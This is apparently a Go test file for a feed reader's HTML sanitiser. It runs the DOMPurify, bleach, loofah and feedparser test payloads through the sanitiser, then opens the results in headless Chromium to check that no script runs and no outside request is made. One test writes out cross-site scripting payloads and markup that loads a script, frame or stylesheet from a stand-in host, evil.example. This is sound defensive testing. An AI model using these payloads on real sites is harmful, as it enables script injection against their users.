package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	_ "embed"
	"encoding/json"
	"fmt"
	"html/template"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/html"

	"broadsheet/feed"
	"broadsheet/feed/normalise"
	"broadsheet/sources/syndication"
)

// specimen is hostile text, and what is published of it.
type specimen struct {
	Name    string
	Title   string    // plain text
	Summary string    // plain text
	Content feed.HTML // markup
}

// raw is markup as a specimen: a browser shows what it would do.
func raw(markup string) specimen { return specimen{Name: markup, Content: feed.HTML(markup)} }

// specimens are the payloads that sanitisers of other people are tested with, as the
// text, the summary and the title of an item in each way in which texts are written,
// and the feeds with which a parser tests its sanitiser.
func specimens(t *testing.T) (out []specimen, counts map[string]int) {
	t.Helper()
	root, _ := corpus(t)
	counts = map[string]int{}
	seen := map[specimen]bool{}
	add := func(name string, it feed.Item) {
		made, err := normalise.Make(normalise.Input{Sightings: []feed.Sighting{{Item: it}}, FirstSeen: time.Now()})
		if err != nil {
			return // nothing is left of it
		}
		s := specimen{Title: made.Entry.Title, Summary: made.Entry.Summary, Content: made.Entry.Content}
		if seen[s] {
			return
		}
		seen[s] = true
		s.Name = name
		out = append(out, s)
	}
	for _, suite := range []string{"dompurify", "bleach", "loofah"} {
		data, err := os.ReadFile(filepath.Join(root, "suites", suite, "cases.jsonl"))
		if err != nil {
			t.Fatal(err)
		}
		for line := range strings.Lines(string(data)) {
			var c struct {
				ID   any
				HTML string
			}
			decode(t, line, &c)
			counts[suite]++
			for _, kind := range []feed.TextKind{feed.TextHTML, feed.TextGuess, feed.TextXHTML} {
				text := feed.Text{Kind: kind, Value: feed.RawHTML(c.HTML)}
				id, links := fmt.Sprint(suite, " ", c.ID, " ", kind), []feed.Link{{Rel: "alternate", Href: "https://gulf.example/1"}}
				add(id+" content", feed.Item{Title: feed.Plain("x"), Content: text, Links: links})
				add(id+" summary", feed.Item{Title: feed.Plain("x"), Summary: text, Links: links})
				add(id+" title", feed.Item{Title: text, Links: links})
			}
		}
	}
	for _, folder := range []string{"wellformed/sanitize", "illformed"} {
		err := filepath.WalkDir(filepath.Join(root, "feedparser_cases", "input", folder), func(name string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() {
				return err
			}
			body, err := os.ReadFile(name)
			if err != nil {
				return err
			}
			counts["feedparser"]++
			doc, _ := syndication.Parse(body, syndication.Input{URL: "https://gulf.example/feed"})
			for _, it := range doc.Items {
				add(name, it)
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	return out, counts
}

// T-12, T-13: nothing that runs is left of the payloads, by a parser that does not ask
// the program's own tables, in every place where markup may be put.
func TestNothingThatRunsIsLeftOfPayloads(t *testing.T) {
	list, counts := specimens(t)
	for _, s := range list {
		for _, ill := range runs(t, string(s.Content)) {
			t.Errorf("%s: %s in %q", s.Name, ill, s.Content)
		}
		for _, text := range []string{s.Title, s.Summary} {
			if ills := runs(t, template.HTMLEscapeString(text)); len(ills) > 0 {
				t.Errorf("%s: %v in the text %q", s.Name, ills, text)
			}
		}
	}
	t.Logf("%v texts and feeds, %d different results, nothing that runs is left", counts, len(list))
	if counts["dompurify"] < 200 || counts["feedparser"] < 700 || len(list) < 400 {
		t.Fail()
	}
}

// T-12, T-15, T-16: a browser opens all that is left of the payloads, and is the one to
// say that nothing ran, and that nothing but pictures and sounds was asked for.
func TestNothingRunsInABrowser(t *testing.T) {
	t.Parallel() // the work is the browser's
	list, counts := specimens(t)
	seen := browse(t, list)
	for _, d := range seen.Dialogs {
		t.Errorf("a program ran: %s", d)
	}
	for _, url := range seen.strangers {
		t.Errorf("it asked for %s", url)
	}
	if seen.Shown != len(list) {
		t.Errorf("%d of %d were shown", seen.Shown, len(list))
	}
	t.Logf("%v texts and feeds: %d results were shown, %d dialogs, %d requests: %d for pictures and sounds, %d others",
		counts, seen.Shown, len(seen.Dialogs), seen.requests, seen.requests-len(seen.strangers), len(seen.strangers))
}

// A browser that sees nothing in what is hostile proves nothing.
func TestTheBrowserSeesWhatRuns(t *testing.T) {
	var list []specimen
	running := []string{
		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)></svg>`, `<details open ontoggle=alert(1)>x</details>`,
		`<a href="javascript:alert(1)">x</a>`, `<p onmouseover="confirm(1)">x</p>`, `<input autofocus onfocus=prompt(1)>`, `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
		`<form action="javascript:alert(1)"><button>x</button></form>`, `<template><img src=x onerror=alert(1)></template>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	}
	asking := map[string]string{
		"evil.example/sheet":  `<link rel=stylesheet href="https://evil.example/sheet">`,
		"evil.example/frame":  `<iframe src="https://evil.example/frame"></iframe>`,
		"evil.example/back":   `<p style="background:url(https://evil.example/back)">x</p>`,
		"evil.example/script": `<script src="https://evil.example/script"></script>`,
		"evil.example/next":   `<meta http-equiv=refresh content="0;url=http://evil.example/next">`,
		"evil.example/object": `<object data="http://evil.example/object"></object>`,
		"evil.example/form":   `<form action="https://evil.example/form"><button>x</button></form>`,
	}
	for _, markup := range running {
		list = append(list, raw(markup))
	}
	for _, markup := range asking {
		list = append(list, raw(markup))
	}
	seen := browse(t, list)
	all := strings.Join(seen.Dialogs, "\n")
	for _, markup := range running {
		if !strings.Contains(all, markup+" ") {
			t.Errorf("%s was not seen to run", markup)
		}
	}
	all = strings.Join(seen.strangers, "\n") + "\n"
	for url := range asking {
		if !strings.Contains(all, " "+url) {
			t.Errorf("%s was not seen to be asked for", url)
		}
	}
	list = []specimen{raw(`<p>x<img src="https://pictures.example/a.png" srcset="http://pictures.example/b.png 2x"><a href="https://x.example/">y</a></p>`)}
	if seen := browse(t, list); len(seen.Dialogs)+len(seen.strangers) > 0 || seen.requests == 0 {
		t.Errorf("what is harmless is taken for hostile, or never shown: %+v", seen)
	}
}

// sight is what a browser saw.
type sight struct {
	Dialogs   []string // which result, where it was put, and what it called
	Shown     int      // results
	requests  int      // to other hosts
	strangers []string // those that are for no picture, sound or film of a result
}

// harnessHost is where the browser finds the results.
const harnessHost = "harness.example"

//go:embed testdata/browser.html
var browserPage []byte

//go:embed testdata/browser.js
var browserHooks []byte

// browse opens specimens in headless Chromium, whose every request is answered here.
func browse(t *testing.T, list []specimen) sight {
	t.Helper()
	chromium := ""
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if found, err := exec.LookPath(name); err == nil {
			chromium = found
			break
		}
	}
	switch {
	case chromium == "":
		t.Skip("there is no Chromium here")
	case testing.Short():
		t.Skip("it takes long")
	}
	w := &web{list: list, allowed: map[string]bool{}, report: make(chan sight, 1)}
	for _, s := range list {
		w.allow(string(s.Content))
	}
	address := w.serve(t)
	const patience = 4 * time.Minute
	ctx, cancel := context.WithTimeout(t.Context(), patience)
	defer cancel()
	cmd := exec.CommandContext(ctx, chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--mute-audio",
		"--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-default-apps", "--disable-extensions",
		"--disable-features=OptimizationHints,MediaRouter,Translate,HttpsUpgrades", "--no-pings=false", "--ignore-certificate-errors",
		"--disable-popup-blocking", "--user-data-dir="+t.TempDir(), "--host-resolver-rules=MAP * "+address, "--proxy-server=direct://",
		"http://"+harnessHost+"/")
	cmd.WaitDelay = 5 * time.Second
	var said bytes.Buffer
	cmd.Stderr = &said
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { cancel(); _ = cmd.Wait() }()
	select {
	case seen := <-w.report:
		w.mu.Lock()
		defer w.mu.Unlock()
		seen.requests, seen.strangers = w.requests, w.strangers
		return seen
	case <-ctx.Done():
		t.Fatalf("the browser did not report: %v; it said:\n%.2000s", ctx.Err(), said.String())
		return sight{}
	}
}

// web is every host that the browser asks.
type web struct {
	list    []specimen
	allowed map[string]bool // URLs of pictures, sounds and films
	report  chan sight

	mu        sync.Mutex
	requests  int
	strangers []string
}

// allow notes what a browser may ask for to show markup.
func (w *web) allow(markup string) {
	z := html.NewTokenizer(strings.NewReader(markup))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return
		case html.StartTagToken, html.SelfClosingTagToken:
			token := z.Token()
			if !strings.Contains(" img source video audio ", " "+token.Data+" ") {
				continue
			}
			for _, a := range token.Attr {
				switch a.Key {
				case "src", "poster":
					w.allowed[address(a.Val)] = true
				case "srcset":
					for part := range strings.SplitSeq(a.Val, ", ") {
						src, _, _ := strings.Cut(part, " ")
						w.allowed[address(src)] = true
					}
				}
			}
		}
	}
}

// address is a URL without its scheme and fragment, and without a final slash.
func address(url string) string {
	_, url, _ = strings.Cut(url, "://")
	url, _, _ = strings.Cut(url, "#")
	return strings.TrimRight(url, "/")
}

// serve answers on one loopback port, with and without TLS.
func (w *web) serve(t *testing.T) (address string) {
	t.Helper()
	secure := httptest.NewUnstartedServer(nil)
	secure.StartTLS()
	t.Cleanup(secure.Close)
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	server := &http.Server{Handler: w, ReadHeaderTimeout: time.Minute, ErrorLog: nil}
	config := secure.TLS.Clone()
	config.NextProtos = []string{"http/1.1"}
	go func() { _ = server.Serve(&bilingual{listener, config}) }()
	t.Cleanup(func() { _ = server.Close() })
	return listener.Addr().String()
}

// bilingual is a listener that speaks TLS with whoever begins with it.
type bilingual struct {
	net.Listener
	config *tls.Config
}

func (l *bilingual) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err != nil {
		return nil, err
	}
	return &lazyConn{Conn: c, config: l.config}, nil
}

// lazyConn looks at its first byte when it is first read, not when it is accepted.
type lazyConn struct {
	net.Conn
	config *tls.Config
	once   sync.Once
	in     io.Reader
	secure net.Conn
}

func (c *lazyConn) Read(p []byte) (int, error) {
	c.once.Do(func() {
		const handshake = 0x16 // TLS record type
		peeked := bufio.NewReader(c.Conn)
		c.in = peeked
		if first, err := peeked.Peek(1); err == nil && first[0] == handshake {
			c.secure = tls.Server(&bufferedConn{c.Conn, peeked}, c.config)
		}
	})
	if c.secure != nil {
		return c.secure.Read(p)
	}
	return c.in.Read(p)
}

func (c *lazyConn) Write(p []byte) (int, error) {
	if c.secure != nil {
		return c.secure.Write(p)
	}
	return c.Conn.Write(p)
}

type bufferedConn struct {
	net.Conn
	in io.Reader
}

func (c *bufferedConn) Read(p []byte) (int, error) { return c.in.Read(p) }

// ServeHTTP serves the results to the browser, pictures to whoever may ask, and notes
// all else.
func (w *web) ServeHTTP(rw http.ResponseWriter, r *http.Request) {
	if r.Host != harnessHost {
		w.stranger(rw, r)
		return
	}
	name, number, _ := strings.Cut(strings.TrimPrefix(r.URL.Path, "/"), "/")
	n, _ := strconv.Atoi(number)
	switch {
	case r.Method == http.MethodPost && name == "report":
		var seen sight
		if err := json.NewDecoder(r.Body).Decode(&seen); err != nil {
			seen.Dialogs = append(seen.Dialogs, "the report is ill: "+err.Error())
		}
		w.report <- seen
	case name == "":
		rw.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = rw.Write(browserPage)
	case name == "hooks.js":
		rw.Header().Set("Content-Type", "text/javascript")
		_, _ = rw.Write(browserHooks)
	case name == "list":
		_ = json.NewEncoder(rw).Encode(w.list)
	case name == "document" && n < len(w.list):
		s := specimen{Title: "nothing yet"}
		if n >= 0 {
			s = w.list[n]
		}
		rw.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(rw, `<!DOCTYPE html><html lang="en"><head><title>%s</title><script src="/hooks.js"></script></head><body><h1>%s</h1><p>%s</p><div>%s</div></body></html>`,
			template.HTMLEscapeString(s.Title), template.HTMLEscapeString(s.Title), template.HTMLEscapeString(s.Summary), s.Content)
	case name == "favicon.ico":
		http.NotFound(rw, r)
	default:
		w.stranger(rw, r)
	}
}

// own are requests that the browser makes for itself, whatever it shows.
var own = []string{
	"clients2.google.com/time/1/", "www.google.com/async/", "accounts.google.com/ListAccounts", "update.googleapis.com/service/update2",
	"clientservices.googleapis.com/", "optimizationguide-pa.googleapis.com/", "content-autofill.googleapis.com/", "android.clients.google.com/",
	"safebrowsingohttpgateway.googleapis.com/", "redirector.gvt1.com/edgedl/",
}

// stranger answers a request for something outside of the harness.
func (w *web) stranger(rw http.ResponseWriter, r *http.Request) {
	url := address("x://" + r.Host + r.URL.RequestURI())
	for _, beginning := range own {
		if strings.HasPrefix(url, beginning) {
			http.NotFound(rw, r)
			return
		}
	}
	w.mu.Lock()
	w.requests++
	if !w.allowed[url] {
		w.strangers = append(w.strangers, r.Method+" "+url)
	}
	w.mu.Unlock()
	http.NotFound(rw, r) // a picture that does not come makes its handler run
}
